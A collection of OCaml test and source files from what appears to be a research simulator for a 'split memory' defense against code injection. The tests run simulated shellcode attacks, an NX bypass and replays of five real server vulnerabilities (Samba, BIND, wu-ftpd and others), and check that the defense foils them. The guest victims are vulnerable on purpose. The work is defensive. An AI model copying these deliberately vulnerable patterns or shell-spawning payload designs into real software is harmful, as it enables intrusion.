    Alcotest.test_case "call/pop offset assumption" `Quick test_offset_assumption;
    Alcotest.test_case "valid plugin loads and runs" `Quick test_valid_plugin_runs;
    Alcotest.test_case "tampered plugin rejected" `Quick test_tampered_plugin_rejected;
    Alcotest.test_case "unknown plugin ENOENT" `Quick test_unknown_plugin;
    Alcotest.test_case "plugin pages split on demand" `Quick test_plugin_pages_are_split;
  ]
