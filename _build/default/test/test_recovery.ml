(* Recovery response mode (the paper's §4.5 proposed extension): a victim
   that registered a recovery callback survives the attack gracefully. *)

open Isa.Asm

(* Vulnerable server that registers a recovery handler at startup. The
   handler re-establishes a sane stack, reports, and exits cleanly. *)
let resilient_victim () =
  Kernel.Image.build ~name:"resilient"
    ~data:(fun ~lbl:_ -> [ L "buf"; Space 64; L "msg"; Bytes "RECOVERED" ])
    ~code:(fun ~lbl ->
      [
        L "main";
        (* sigrecover(on_attack) *)
        I (Mov_ri (EAX, 48));
        I (Mov_ri (EBX, lbl "on_attack"));
        I (Int 0x80);
      ]
      @ Guest.sys_read_imm ~buf:(lbl "buf") ~len:64
      @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ]
      @ [
          L "on_attack";
          (* eax holds the faulting eip; rebuild a stack and shut down *)
          I (Mov_ri (ESP, Kernel.Layout.initial_esp));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "msg") ~len:9 ()
      @ Guest.sys_exit 99)
    ~entry:"main" ()

(* Same bug, no handler registered. *)
let fragile_victim () =
  Kernel.Image.build ~name:"fragile"
    ~data:(fun ~lbl:_ -> [ L "buf"; Space 64 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:64)
      @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ])
    ~entry:"main" ()

let attack image =
  let defense = Defense.split_with ~response:Split_memory.Response.Recovery () in
  let s = Attack.Runner.start ~defense image in
  ignore (Attack.Runner.step s);
  let buf = Kernel.Image.label image "buf" in
  Attack.Runner.send s (Attack.Shellcode.execve_bin_sh ~sled:4 ~base:buf ());
  ignore (Attack.Runner.step s);
  s

let test_recovery_handler_runs () =
  let s = attack (resilient_victim ()) in
  Alcotest.(check bool) "no shell" false
    (Kernel.Event_log.shell_spawned (Kernel.Os.log s.k));
  Alcotest.(check bool) "recovery event logged" true
    (Kernel.Event_log.find_first (Kernel.Os.log s.k) (function
       | Kernel.Event_log.Recovery_invoked _ -> true
       | _ -> false)
    <> None);
  Alcotest.(check string) "handler output" "RECOVERED" (Kernel.Os.read_stdout s.k s.victim);
  match s.victim.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 99) -> ()
  | st -> Alcotest.failf "expected graceful exit 99, got %a" Kernel.Proc.pp_state st

let test_recovery_without_handler_breaks () =
  let s = attack (fragile_victim ()) in
  Alcotest.(check bool) "no shell" false
    (Kernel.Event_log.shell_spawned (Kernel.Os.log s.k));
  match s.victim.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigill) -> ()
  | st -> Alcotest.failf "expected SIGILL fallback, got %a" Kernel.Proc.pp_state st

let test_recovery_on_soft_tlb () =
  let image = resilient_victim () in
  let defense =
    Defense.split_with ~response:Split_memory.Response.Recovery
      ~mechanism:Split_memory.Soft_tlb ()
  in
  let s = Attack.Runner.start ~defense image in
  ignore (Attack.Runner.step s);
  let buf = Kernel.Image.label image "buf" in
  Attack.Runner.send s (Attack.Shellcode.execve_bin_sh ~sled:4 ~base:buf ());
  ignore (Attack.Runner.step s);
  match s.victim.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 99) -> ()
  | st -> Alcotest.failf "expected graceful exit 99, got %a" Kernel.Proc.pp_state st

let suite =
  [
    Alcotest.test_case "registered handler recovers" `Quick test_recovery_handler_runs;
    Alcotest.test_case "no handler falls back to break" `Quick
      test_recovery_without_handler_breaks;
    Alcotest.test_case "recovery works on soft-tlb too" `Quick test_recovery_on_soft_tlb;
  ]
