(* The paper's motivating gaps: NX is bypassable and cannot protect mixed
   pages; split memory handles both. *)

module B = Attack.Bypass
module R = Attack.Runner

let test_nx_bypass () =
  let unprot = B.run_nx_bypass ~defense:Defense.unprotected () in
  Alcotest.(check bool) "bypass works unprotected" true (R.is_attack_success unprot);
  let under_nx = B.run_nx_bypass ~defense:Defense.nx () in
  Alcotest.(check bool) "bypass defeats the nx bit" true (R.is_attack_success under_nx);
  let under_split = B.run_nx_bypass ~defense:Defense.split_standalone () in
  Alcotest.(check bool) "split memory foils the bypass" true (R.is_foiled under_split)

let test_mixed_page () =
  let unprot = B.run_mixed_page ~defense:Defense.unprotected () in
  Alcotest.(check bool) "mixed-page attack works unprotected" true
    (R.is_attack_success unprot);
  let under_nx = B.run_mixed_page ~defense:Defense.nx () in
  Alcotest.(check bool) "nx cannot protect a mixed page" true (R.is_attack_success under_nx);
  let combined = B.run_mixed_page ~defense:Defense.split_mixed_plus_nx () in
  Alcotest.(check bool) "split(mixed-only)+nx foils it" true (R.is_foiled combined);
  let split = B.run_mixed_page ~defense:Defense.split_standalone () in
  Alcotest.(check bool) "stand-alone split foils it" true (R.is_foiled split)

let test_mixed_page_benign () =
  (* Without an overflow, the JIT victim works under every defense —
     including split(mixed-only), which keeps the mixed page usable. *)
  List.iter
    (fun defense ->
      let image = B.jit_victim () in
      let s = R.start ~defense image in
      R.send s "short\n";
      ignore (R.step s);
      match R.outcome s with
      | R.Completed 0 -> ()
      | o -> Alcotest.failf "benign jit run: %s" (R.outcome_name o))
    [ Defense.unprotected; Defense.nx; Defense.split_mixed_plus_nx; Defense.split_standalone ]

let suite =
  [
    Alcotest.test_case "mmap-rwx gadget bypasses nx, not split" `Quick test_nx_bypass;
    Alcotest.test_case "mixed page: nx gap, split covers" `Quick test_mixed_page;
    Alcotest.test_case "mixed page benign use survives" `Quick test_mixed_page_benign;
  ]
