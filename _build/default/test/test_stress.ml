(* Edge cases and stress: page-straddling instructions on split pages,
   thrashing TLBs, tiny quanta, resource exhaustion, fuzzed code. *)

open Isa.Asm

(* An instruction that straddles two pages: Algorithm 1 must service fetch
   faults for both halves (the faulting address differs from EIP for the
   second page — the hardware reports the access type, so routing still
   works). *)
let test_page_straddling_insn () =
  (* Lay out code so a 6-byte Mov_ri begins 3 bytes before a page end. *)
  let pad = 4096 - 16 - 3 in
  let image =
    Kernel.Image.build ~name:"straddle"
      ~code:(fun ~lbl:_ ->
        [ L "main"; I (Jmp (Lbl "edge")); Space pad; L "edge"; I (Mov_ri (EBX, 0x2A)) ]
        @ [ I (Mov_ri (EAX, 1)); I (Int 0x80) ])
      ~entry:"main" ()
  in
  List.iter
    (fun defense ->
      let s = Attack.Runner.start ~defense image in
      ignore (Attack.Runner.step s);
      match s.victim.state with
      | Kernel.Proc.Zombie (Kernel.Proc.Exited 0x2A) -> ()
      | st ->
        Alcotest.failf "straddle under %s: %a" (Defense.name defense) Kernel.Proc.pp_state st)
    [ Defense.unprotected; Defense.split_standalone; Defense.split_soft_tlb ]

(* Word access straddling two (split) pages must read what was written. *)
let test_unaligned_cross_page_word () =
  let addr = Kernel.Layout.heap_base + 4094 in
  let image =
    Kernel.Image.build ~name:"unaligned"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EBX, addr));
          I (Mov_ri (EAX, 0x11223344));
          I (Store (EBX, 0, EAX));
          I (Load (ECX, EBX, 0));
          I (Cmp (EAX, ECX));
          I (Jnz (Lbl "bad"));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
          L "bad";
          I (Mov_ri (EBX, 1));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  List.iter
    (fun defense ->
      let s = Attack.Runner.start ~defense image in
      ignore (Attack.Runner.step s);
      match s.victim.state with
      | Kernel.Proc.Zombie (Kernel.Proc.Exited 0) -> ()
      | st -> Alcotest.failf "under %s: %a" (Defense.name defense) Kernel.Proc.pp_state st)
    [ Defense.unprotected; Defense.split_standalone; Defense.split_soft_tlb ]

(* A 1-entry TLB forces constant refill; split memory must still be fully
   transparent to correct programs. *)
let test_tiny_tlb () =
  let image =
    Kernel.Image.build ~name:"thrash"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (ECX, 0));
          L "loop";
          I (Cmp_ri (ECX, 20));
          I (Jge (Lbl "done"));
          I (Mov_ri (EBX, Kernel.Layout.heap_base));
          I (Mov_rr (ESI, ECX));
          I (Shl (ESI, 12));
          I (Add (EBX, ESI));
          I (Storeb (EBX, 0, ECX));
          I (Loadb (EDX, EBX, 0));
          I (Add_ri (ECX, 1));
          I (Jmp (Lbl "loop"));
          L "done";
          I (Mov_ri (EBX, 0));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  let k =
    Kernel.Os.create ~itlb_capacity:1 ~dtlb_capacity:1
      ~protection:(Split_memory.protection ()) ()
  in
  let p = Kernel.Os.spawn k image in
  Alcotest.(check bool) "finishes" true (Kernel.Os.run k = Kernel.Os.All_exited);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 0) -> ()
  | st -> Alcotest.failf "tiny tlb: %a" Kernel.Proc.pp_state st

(* Quantum of 1 instruction: maximal preemption between every step. *)
let test_quantum_one () =
  let k = Kernel.Os.create ~quantum:1 ~protection:(Split_memory.protection ()) () in
  let ping = Kernel.Os.spawn k (Workload.Guests.ctxsw_ping ~iters:5 ()) in
  let pong = Kernel.Os.spawn k (Workload.Guests.ctxsw_pong ()) in
  Kernel.Os.connect k ping pong;
  Alcotest.(check bool) "completes" true (Kernel.Os.run k = Kernel.Os.All_exited)

(* Fork bomb: the frame allocator runs dry and the kernel kills with
   SIGKILL rather than crashing the simulator. *)
let test_out_of_frames () =
  let bomb =
    Kernel.Image.build ~name:"bomb"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          L "again";
          (* touch a fresh heap page each round, then fork *)
          I (Mov_ri (EAX, 2));
          I (Int 0x80);
          I (Jmp (Lbl "again"));
        ])
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~frames:64 ~protection:(Split_memory.protection ()) () in
  let _ = Kernel.Os.spawn k bomb in
  let reason = Kernel.Os.run ~fuel:200_000 k in
  ignore reason;
  Alcotest.(check bool) "some process died of sigkill or sim survived" true
    (List.exists
       (fun (p : Kernel.Proc.t) ->
         match p.state with
         | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigkill) -> true
         | _ -> false)
       (Kernel.Os.procs k)
    || reason = Kernel.Os.Fuel_exhausted)

(* Fuzz: arbitrary bytes as a code segment never crash the simulator; the
   guest dies of a signal or exits, the kernel survives. *)
let test_fuzzed_code () =
  let rng = Random.State.make [| 0xF00D |] in
  for _ = 1 to 40 do
    let len = 64 + Random.State.int rng 256 in
    let junk = String.init len (fun _ -> Char.chr (Random.State.int rng 256)) in
    let image =
      Kernel.Image.build ~name:"fuzz"
        ~code:(fun ~lbl:_ -> [ L "main"; Bytes junk ])
        ~entry:"main" ()
    in
    List.iter
      (fun defense ->
        let s = Attack.Runner.start ~defense image in
        let reason = Kernel.Os.run ~fuel:100_000 s.k in
        (* any outcome is fine as long as the simulator didn't raise *)
        ignore reason)
      [ Defense.unprotected; Defense.split_standalone ]
  done

let suite =
  [
    Alcotest.test_case "page-straddling instruction" `Quick test_page_straddling_insn;
    Alcotest.test_case "unaligned cross-page word on split pages" `Quick
      test_unaligned_cross_page_word;
    Alcotest.test_case "1-entry TLBs still correct" `Quick test_tiny_tlb;
    Alcotest.test_case "quantum=1 preemption storm" `Quick test_quantum_one;
    Alcotest.test_case "fork bomb hits frame limit safely" `Quick test_out_of_frames;
    Alcotest.test_case "fuzzed code never crashes the simulator" `Quick test_fuzzed_code;
  ]
