(* The packed-pagetable fidelity study: the hardware walker reads real
   two-level tables out of simulated physical memory, and the whole
   TLB-desynchronization sequence works against single 32-bit PTE stores. *)

module Pt = Kernel.Hw_pagetable

let fixture () =
  let phys = Hw.Phys.create ~frames:256 () in
  let alloc = Kernel.Frame_alloc.create phys in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~phys ~cost () in
  (phys, alloc, mmu)

let test_encode_roundtrip () =
  let cases =
    [
      (5, true, true, false, false, false);
      (0xFFFFF, false, false, true, true, true);
      (1, true, false, false, true, false);
    ]
  in
  List.iter
    (fun (frame, writable, user, nx, split, data_sel) ->
      let e = Pt.encode ~frame ~writable ~user ~nx ~split ~data_sel in
      Alcotest.(check int) "frame" frame (Pt.frame_of e);
      Alcotest.(check bool) "present" true (Pt.present e);
      Alcotest.(check bool) "writable" writable (Pt.writable e);
      Alcotest.(check bool) "user" user (Pt.user e);
      Alcotest.(check bool) "nx" nx (Pt.nx e);
      Alcotest.(check bool) "split" split (Pt.split e);
      Alcotest.(check bool) "data_sel" data_sel (Pt.data_selected e))
    cases

let test_map_walk_unmap () =
  let mem, alloc, _ = fixture () in
  let pt = Pt.create mem alloc in
  (* vpns spanning two directory entries *)
  Pt.map pt ~vpn:7 ~frame:42 ~writable:true ~user:true ();
  Pt.map pt ~vpn:(1024 + 7) ~frame:43 ~writable:false ~user:true ~nx:true ();
  (match Pt.walk pt 7 with
  | Some { Hw.Mmu.frame = 42; writable = true; user = true; nx = false; _ } -> ()
  | _ -> Alcotest.fail "walk vpn 7");
  (match Pt.walk pt (1024 + 7) with
  | Some { Hw.Mmu.frame = 43; writable = false; nx = true; _ } -> ()
  | _ -> Alcotest.fail "walk vpn 1031");
  Alcotest.(check bool) "unmapped absent" true (Pt.walk pt 8 = None);
  Pt.unmap pt 7;
  Alcotest.(check bool) "unmap works" true (Pt.walk pt 7 = None)

let test_split_pair_adjacency () =
  let mem, alloc, _ = fixture () in
  let pt = Pt.create mem alloc in
  let original = Kernel.Frame_alloc.alloc alloc in
  Hw.Phys.blit_from_string mem ~frame:original ~off:0 "PAYLOAD";
  Pt.map pt ~vpn:5 ~frame:original ~writable:true ~user:true ();
  let code, data = Pt.split_page pt 5 in
  Alcotest.(check int) "side-by-side" (code + 1) data;
  Alcotest.(check int) "code even" 0 (code land 1);
  Alcotest.(check string) "code copy" "PAYLOAD" (String.sub (Hw.Phys.to_string mem ~frame:code) 0 7);
  Alcotest.(check string) "data copy" "PAYLOAD" (String.sub (Hw.Phys.to_string mem ~frame:data) 0 7);
  (* entry is split + supervisor, pointing at the code copy *)
  (match Pt.entry pt 5 with
  | Some e ->
    Alcotest.(check bool) "split bit" true (Pt.split e);
    Alcotest.(check bool) "restricted" false (Pt.user e);
    Alcotest.(check int) "points at code" code (Pt.frame_of e)
  | None -> Alcotest.fail "entry vanished");
  (* idempotent *)
  let code', data' = Pt.split_page pt 5 in
  Alcotest.(check (pair int int)) "idempotent" (code, data) (code', data')

(* Replay the full Algorithm-1 desync against packed tables, with the MMU
   walker reading them from simulated physical memory. *)
let test_desync_on_packed_tables () =
  let mem, alloc, mmu = fixture () in
  let pt = Pt.create mem alloc in
  let original = Kernel.Frame_alloc.alloc alloc in
  Pt.map pt ~vpn:9 ~frame:original ~writable:true ~user:true ();
  let code, data = Pt.split_page pt 9 in
  Hw.Phys.blit_from_string mem ~frame:code ~off:0 "CODE";
  Hw.Phys.blit_from_string mem ~frame:data ~off:0 "DATA";
  Hw.Mmu.reload_cr3 mmu (Pt.walk pt);
  let addr = 9 * 4096 in
  (* restricted: user access faults *)
  (match Hw.Mmu.read8 mmu ~from_user:true addr with
  | exception Hw.Mmu.Page_fault { kind = Hw.Mmu.Protection; _ } -> ()
  | _ -> Alcotest.fail "restricted entry must fault");
  (* Algorithm 1 data branch: point at data, unrestrict, touch, restrict *)
  Pt.point_at_data pt 9;
  Pt.unrestrict pt 9;
  Hw.Mmu.touch_read mmu addr;
  Pt.restrict pt 9;
  (* Algorithm 1 code branch: point at code, unrestrict, fetch, restrict *)
  Pt.point_at_code pt 9;
  Pt.unrestrict pt 9;
  ignore (Hw.Mmu.fetch8 mmu ~from_user:true addr);
  Pt.restrict pt 9;
  (* desynchronized *)
  Alcotest.(check int) "fetch -> CODE" (Char.code 'C') (Hw.Mmu.fetch8 mmu ~from_user:true addr);
  Alcotest.(check int) "read -> DATA" (Char.code 'D') (Hw.Mmu.read8 mmu ~from_user:true addr)

let test_free_releases_everything () =
  let mem, alloc, _ = fixture () in
  let before = Kernel.Frame_alloc.in_use alloc in
  let pt = Pt.create mem alloc in
  for vpn = 0 to 5 do
    let f = Kernel.Frame_alloc.alloc alloc in
    Pt.map pt ~vpn ~frame:f ~writable:true ~user:true ()
  done;
  ignore (Pt.split_page pt 2);
  ignore (Pt.split_page pt 4);
  Pt.free pt;
  Alcotest.(check int) "no leaks" before (Kernel.Frame_alloc.in_use alloc)

let test_alloc_pair_properties () =
  let mem = Hw.Phys.create ~frames:64 () in
  let alloc = Kernel.Frame_alloc.create mem in
  (* fragment the free list a bit *)
  let singles = List.init 7 (fun _ -> Kernel.Frame_alloc.alloc alloc) in
  let a, b = Kernel.Frame_alloc.alloc_pair alloc in
  Alcotest.(check int) "adjacent" (a + 1) b;
  Alcotest.(check int) "even" 0 (a land 1);
  Alcotest.(check bool) "not frame 0" true (a > 0);
  List.iter (fun f -> Kernel.Frame_alloc.decref alloc f) singles;
  Kernel.Frame_alloc.decref alloc a;
  Kernel.Frame_alloc.decref alloc b;
  Alcotest.(check int) "all freed" 0 (Kernel.Frame_alloc.in_use alloc)

let suite =
  [
    Alcotest.test_case "entry encode/decode" `Quick test_encode_roundtrip;
    Alcotest.test_case "map / walk / unmap over two levels" `Quick test_map_walk_unmap;
    Alcotest.test_case "split: side-by-side pair, split bit" `Quick test_split_pair_adjacency;
    Alcotest.test_case "full desync on packed tables" `Quick test_desync_on_packed_tables;
    Alcotest.test_case "free releases split pairs too" `Quick test_free_releases_everything;
    Alcotest.test_case "alloc_pair adjacency" `Quick test_alloc_pair_properties;
  ]
