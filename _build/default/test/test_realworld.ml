(* The five real-world vulnerabilities of Table 2: attacks succeed on the
   unprotected kernel and are foiled under split memory. *)

module R = Attack.Realworld

let check id =
  let info = R.info id in
  let unprot = R.run ~defense:Defense.unprotected id in
  Alcotest.(check bool)
    (info.package ^ " succeeds unprotected")
    true
    (Attack.Runner.is_attack_success unprot);
  let split = R.run ~defense:Defense.split_standalone id in
  Alcotest.(check bool)
    (info.package ^ " foiled under split")
    true
    (Attack.Runner.is_foiled split)

let test_apache () = check R.Apache_ssl
let test_bind () = check R.Bind
let test_proftpd () = check R.Proftpd
let test_samba () = check R.Samba
let test_wuftpd () = check R.Wuftpd

let test_samba_brute_force () =
  (* Unprotected: brute force needs more than one attempt (randomization),
     but eventually lands in the sled. *)
  let r = R.run_samba ~defense:Defense.unprotected () in
  Alcotest.(check bool) "samba eventually succeeds" true
    (Attack.Runner.is_attack_success r.outcome);
  Alcotest.(check bool) "takes at least one attempt" true (r.attempts >= 1)

let test_wuftpd_two_stage () =
  let outcome, s = R.run_wuftpd ~defense:Defense.unprotected () in
  Alcotest.(check bool) "shell spawned" true (Attack.Runner.is_attack_success outcome);
  (* The two-stage payload wrote its magic and the interactive shell ran. *)
  let log = Kernel.Os.log s.k in
  Alcotest.(check bool) "execve logged" true (Kernel.Event_log.shell_spawned log)

let suite =
  [
    Alcotest.test_case "apache+openssl heap overflow" `Quick test_apache;
    Alcotest.test_case "bind tsig stack overflow" `Quick test_bind;
    Alcotest.test_case "proftpd ascii translation" `Quick test_proftpd;
    Alcotest.test_case "samba trans2open (brute force)" `Quick test_samba;
    Alcotest.test_case "wuftpd globbing (two-stage)" `Quick test_wuftpd;
    Alcotest.test_case "samba brute force behaviour" `Quick test_samba_brute_force;
    Alcotest.test_case "wuftpd two-stage detail" `Quick test_wuftpd_two_stage;
  ]

(* Benign clients: the five servers must serve correct traffic unharmed
   under every defense — protection must be transparent to honest use. *)
let benign_defenses =
  [ Defense.unprotected; Defense.nx; Defense.split_standalone; Defense.split_soft_tlb;
    Defense.split_dual_cr3 ]

let check_benign name drive =
  List.iter
    (fun defense ->
      let ok = drive defense in
      Alcotest.(check bool) (Fmt.str "%s benign under %s" name (Defense.name defense)) true ok)
    benign_defenses

let completed (s : Attack.Runner.session) =
  match Attack.Runner.outcome s with Attack.Runner.Completed 0 -> true | _ -> false

let test_benign_apache () =
  check_benign "apache" (fun defense ->
      let s = Attack.Runner.start ~defense (R.victim R.Apache_ssl) in
      ignore (Attack.Runner.recv s);
      (* a correctly sized master key: len 16 *)
      Attack.Runner.send s ("\016" ^ String.make 16 'K');
      ignore (Attack.Runner.step s);
      completed s)

let test_benign_bind () =
  check_benign "bind" (fun defense ->
      let s = Attack.Runner.start ~defense (R.victim R.Bind) in
      Attack.Runner.send s "query: a.example\n";
      ignore (Attack.Runner.recv s);
      Attack.Runner.send s "small tsig\n";
      ignore (Attack.Runner.step s);
      completed s)

let test_benign_proftpd () =
  check_benign "proftpd" (fun defense ->
      let s = Attack.Runner.start ~defense (R.victim R.Proftpd) in
      ignore (Attack.Runner.recv s);
      (* short file, a couple of newlines to translate, NUL-terminated *)
      Attack.Runner.send s "line1\nline2\n\000";
      ignore (Attack.Runner.step s);
      completed s)

let test_benign_samba_wuftpd () =
  check_benign "samba" (fun defense ->
      let s = Attack.Runner.start ~defense (R.victim R.Samba) in
      Attack.Runner.send s "TRANS2 normal request\n";
      ignore (Attack.Runner.step s);
      completed s);
  check_benign "wuftpd" (fun defense ->
      let s = Attack.Runner.start ~defense (R.victim R.Wuftpd) in
      ignore (Attack.Runner.recv s);
      Attack.Runner.send s "*.txt\n";
      ignore (Attack.Runner.step s);
      completed s)

let suite =
  suite
  @ [
      Alcotest.test_case "benign apache traffic, all defenses" `Quick test_benign_apache;
      Alcotest.test_case "benign bind traffic, all defenses" `Quick test_benign_bind;
      Alcotest.test_case "benign proftpd traffic, all defenses" `Quick test_benign_proftpd;
      Alcotest.test_case "benign samba/wuftpd traffic, all defenses" `Quick
        test_benign_samba_wuftpd;
    ]
