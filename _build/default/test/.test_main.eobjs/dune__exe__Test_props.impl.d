test/test_props.ml: Array Buffer Char Gen Guest Hashtbl Hw Isa Kernel List QCheck QCheck_alcotest Split_memory String Test Workload
