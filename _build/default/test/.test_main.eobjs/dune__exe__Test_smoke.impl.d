test/test_smoke.ml: Alcotest Attack Isa Kernel Split_memory String
