test/test_bypass.ml: Alcotest Attack Defense List
