test/test_cache.ml: Alcotest Hashtbl Hw
