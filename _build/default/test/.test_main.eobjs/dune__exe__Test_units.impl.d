test/test_units.ml: Alcotest Astring_contains Float Fmt Guest Hw Isa Kernel List Option Report String
