test/test_split.ml: Alcotest Attack Guest Hw Isa Kernel List Option Split_memory String
