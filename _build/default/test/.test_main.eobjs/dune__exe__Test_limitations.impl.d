test/test_limitations.ml: Alcotest Attack Defense Isa Kernel List String
