test/test_hw_pagetable.ml: Alcotest Char Hw Kernel List String
