test/test_stress.ml: Alcotest Attack Char Defense Isa Kernel List Random Split_memory String Workload
