test/test_hw.ml: Alcotest Char Hashtbl Hw Isa
