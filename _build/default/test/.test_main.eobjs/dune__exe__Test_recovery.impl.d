test/test_recovery.ml: Alcotest Attack Defense Guest Isa Kernel Split_memory
