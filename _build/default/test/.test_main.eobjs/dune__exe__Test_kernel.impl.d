test/test_kernel.ml: Alcotest Char Guest Isa Kernel List Split_memory String
