test/test_workload.ml: Alcotest Defense Fmt List Workload
