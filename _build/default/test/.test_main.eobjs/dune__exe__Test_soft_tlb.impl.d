test/test_soft_tlb.ml: Alcotest Attack Defense Fmt Kernel List Split_memory Workload
