test/test_attack.ml: Alcotest Attack Defense Fmt List String
