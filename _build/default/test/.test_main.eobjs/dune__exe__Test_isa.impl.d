test/test_isa.ml: Alcotest Astring_contains Decode Encode Insn Isa List Reg String
