test/test_dual_cr3.ml: Alcotest Attack Defense Fmt Isa Kernel List Split_memory Workload
