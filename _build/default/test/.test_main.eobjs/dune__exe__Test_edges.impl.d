test/test_edges.ml: Alcotest Attack Defense Guest Isa Kernel List Split_memory String
