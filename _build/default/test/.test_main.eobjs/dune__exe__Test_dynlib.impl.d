test/test_dynlib.ml: Alcotest Defense Guest Isa Kernel List
