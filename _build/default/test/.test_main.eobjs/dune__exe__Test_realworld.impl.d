test/test_realworld.ml: Alcotest Attack Defense Fmt Kernel List String
