(** Byte encoding of instructions (little-endian immediates). *)

exception Unresolved_label of string
(** Raised when encoding a jump/call whose target is still a {!Insn.Lbl};
    {!Asm.assemble} resolves labels before encoding. *)

val add : Buffer.t -> Insn.t -> unit
(** Append the encoding of one instruction to [buf]. *)

val to_string : Insn.t -> string
(** Encoding of a single instruction as raw bytes. *)

val mask32 : int -> int
(** Truncate to 32 bits (the machine's word size). *)
