(** Two-pass assembler: instruction lists with labels to raw machine code.

    Guest programs (victims, benchmark workloads, shellcode) are written as
    {!program} values; [assemble] lays them out from a load [origin],
    resolves label targets into relative displacements and returns the
    encoded bytes plus the label map. *)

type item =
  | I of Insn.t  (** one instruction *)
  | L of string  (** define a label at the current address *)
  | Bytes of string  (** literal bytes (e.g. string constants) *)
  | Word32 of int  (** one little-endian 32-bit word *)
  | Words of int list  (** several 32-bit words *)
  | Space of int  (** [n] zero bytes *)
  | Align of int  (** pad with zeros to the next multiple of [n] *)

type program = item list

exception Duplicate_label of string
exception Undefined_label of string

type assembled = {
  code : string;  (** encoded bytes *)
  labels : (string, int) Hashtbl.t;  (** label -> absolute address *)
  origin : int;  (** load address of the first byte *)
}

val assemble : ?origin:int -> program -> assembled
(** Assemble a program laid out starting at [origin] (default 0).
    @raise Duplicate_label if a label is defined twice.
    @raise Undefined_label if a jump/call names an unknown label. *)

val label : assembled -> string -> int
(** Absolute address of a label. @raise Undefined_label if missing. *)
