(** General-purpose registers of the simulated 32-bit machine.

    The register file mirrors the x86 order so that guest programs and
    shellcode read naturally: [ESP] is the stack pointer, [EBP] the frame
    pointer, [EAX] the syscall number / return-value register. *)

type t = EAX | ECX | EDX | EBX | ESP | EBP | ESI | EDI

val to_int : t -> int
(** Encoding index, 0..7, in x86 order. *)

val of_int : int -> t option
(** Inverse of {!to_int}; [None] for values outside 0..7. *)

val name : t -> string
(** Lower-case assembly name, e.g. ["eax"]. *)

val all : t list
(** All eight registers in encoding order. *)

val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
