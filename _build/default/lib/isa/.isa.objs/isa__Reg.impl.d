lib/isa/reg.ml: Fmt
