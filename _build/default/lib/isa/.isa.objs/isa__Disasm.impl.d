lib/isa/disasm.ml: Buffer Char Decode Fmt Insn List String
