lib/isa/insn.ml: Fmt Reg
