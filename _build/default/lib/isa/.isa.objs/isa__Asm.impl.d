lib/isa/asm.ml: Buffer Char Encode Hashtbl Insn List String
