lib/isa/asm.mli: Hashtbl Insn
