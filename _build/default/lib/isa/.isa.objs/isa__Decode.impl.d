lib/isa/decode.ml: Char Insn Reg String
