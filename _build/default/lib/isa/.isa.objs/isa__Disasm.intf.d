lib/isa/disasm.mli: Decode Insn
