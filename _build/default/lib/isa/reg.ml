type t = EAX | ECX | EDX | EBX | ESP | EBP | ESI | EDI

let to_int = function
  | EAX -> 0
  | ECX -> 1
  | EDX -> 2
  | EBX -> 3
  | ESP -> 4
  | EBP -> 5
  | ESI -> 6
  | EDI -> 7

let of_int = function
  | 0 -> Some EAX
  | 1 -> Some ECX
  | 2 -> Some EDX
  | 3 -> Some EBX
  | 4 -> Some ESP
  | 5 -> Some EBP
  | 6 -> Some ESI
  | 7 -> Some EDI
  | _ -> None

let name = function
  | EAX -> "eax"
  | ECX -> "ecx"
  | EDX -> "edx"
  | EBX -> "ebx"
  | ESP -> "esp"
  | EBP -> "ebp"
  | ESI -> "esi"
  | EDI -> "edi"

let all = [ EAX; ECX; EDX; EBX; ESP; EBP; ESI; EDI ]
let equal (a : t) (b : t) = a = b
let pp ppf r = Fmt.string ppf (name r)
