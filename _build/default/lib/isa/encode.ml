exception Unresolved_label of string

let mask32 v = v land 0xFFFFFFFF

let add_u8 buf v = Buffer.add_char buf (Char.chr (v land 0xFF))

let add_u32 buf v =
  let v = mask32 v in
  add_u8 buf v;
  add_u8 buf (v lsr 8);
  add_u8 buf (v lsr 16);
  add_u8 buf (v lsr 24)

let add_reg buf r = add_u8 buf (Reg.to_int r)

let rel = function
  | Insn.Rel d -> d
  | Insn.Lbl l -> raise (Unresolved_label l)

let add buf insn =
  let op = add_u8 buf in
  match (insn : Insn.t) with
  | Nop -> op 0x90
  | Hlt -> op 0xF4
  | Mov_ri (d, i) ->
    op 0x01;
    add_reg buf d;
    add_u32 buf i
  | Mov_rr (d, s) ->
    op 0x02;
    add_reg buf d;
    add_reg buf s
  | Load (d, b, off) ->
    op 0x03;
    add_reg buf d;
    add_reg buf b;
    add_u32 buf off
  | Store (b, off, s) ->
    op 0x04;
    add_reg buf b;
    add_u32 buf off;
    add_reg buf s
  | Loadb (d, b, off) ->
    op 0x05;
    add_reg buf d;
    add_reg buf b;
    add_u32 buf off
  | Storeb (b, off, s) ->
    op 0x06;
    add_reg buf b;
    add_u32 buf off;
    add_reg buf s
  | Push s ->
    op 0x07;
    add_reg buf s
  | Pop d ->
    op 0x08;
    add_reg buf d
  | Lea (d, b, off) ->
    op 0x09;
    add_reg buf d;
    add_reg buf b;
    add_u32 buf off
  | Add (d, s) ->
    op 0x10;
    add_reg buf d;
    add_reg buf s
  | Sub (d, s) ->
    op 0x11;
    add_reg buf d;
    add_reg buf s
  | Add_ri (d, i) ->
    op 0x12;
    add_reg buf d;
    add_u32 buf i
  | Cmp (a, b') ->
    op 0x13;
    add_reg buf a;
    add_reg buf b'
  | Cmp_ri (a, i) ->
    op 0x14;
    add_reg buf a;
    add_u32 buf i
